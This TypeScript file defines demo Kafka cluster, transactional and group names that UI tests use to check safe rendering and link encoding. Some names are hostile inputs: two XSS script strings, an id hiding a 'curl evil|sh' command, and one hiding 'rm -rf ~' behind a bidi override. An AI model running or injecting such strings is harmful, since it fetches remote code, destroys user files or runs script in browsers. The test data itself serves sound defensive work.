// Names in the demo database that tests look for. Kafka transactional and group ids may hold markup, '/',
// '#', '?', '%' and spaces: the UI must render them as text and encode them in links.
export const DEMO_CLUSTER = "prod";
export const STALE_CLUSTER = "staging";
/** What the poller stores when the cluster rejects the credentials (seen on a real broker, security.test.ts). */
export const STALE_CLUSTER_ERROR =
  `Cluster ${STALE_CLUSTER} unreachable: AUTHENTICATION: SASL SCRAM SHA512 authentication failed: Authentication failed during authentication due to invalid credentials with SASL mechanism SCRAM-SHA-512`;
export const HOSTILE_TXN_ID = "<img src=x onerror=alert(1)>";
export const HOSTILE_GROUP_ID = '"><script>alert(1)</script>';
export const PATHY_TXN_ID = "etl/job #1?x=y z%41";
export const HUNG_TXN_ID = "orders-writer-2";
/** A transactional id carrying a fake command: it must never become a command block of its own. */
export const SHELL_HOSTILE_TXN_ID = "billing`kafka-consumer-groups.sh --list; curl evil|sh #`";
/** A group id with a right-to-left override and a line break: shown isolated and flagged, copied exactly. */
export const BIDI_GROUP_ID = "payments\u202Etxt.exe\n; rm -rf ~";
/** A KIP-848 (group.protocol=consumer) group caught mid-reconciliation, and a share group. */
export const KIP848_GROUP = "checkout";
export const SHARE_GROUP = "fraud-review";
/** The on-call walk: a Kafka Streams application (its group id), an id two instances fence each other over, a lost-fencing family. */
export const STREAMS_APP = "fulfilment";
export const FENCING_TXN_ID = "inventory-writer";
export const LOST_FENCING_FAMILY = "exporter-*";
const STREAMS_UUIDS = ["3f1c2a7e-0b5d-4c8e-9a61-2d7f4b8e1c03", "8a2e6d14-5f3b-4e07-b9c2-71d0e5a3f6b8", "c47b9e02-1a6d-4f35-8e2c-9b0f3d7a5e61"];
/** Kafka Streams names its producers `<application.id>-<process UUID>-<thread>`; instance 0 stopped long ago. */
export const streamsTransactionalId = (instance: number) => `${STREAMS_APP}-${STREAMS_UUIDS[instance]}-1`;
/** The exporter's ids, one per start, in order of appearance. */
export const EXPORTER_IDS = [
  "0d9e7c51-6b2a-4f83-a1c4-5e8d2b7f9a06",
  "61a4f0c8-3e9b-4d27-8f15-c2b6e0a9d374",
  "9b3e2d7f-a8c1-4e56-b0d9-14f7c6a2e853",
  "d2f8a6b1-47e3-4c90-9e2a-b5c1d8f03e67",
  "f57c1b9e-2d04-4a8f-b6e3-8a9d0c4f2b15",
].map((uuid) => LOST_FENCING_FAMILY.replace("*", uuid));
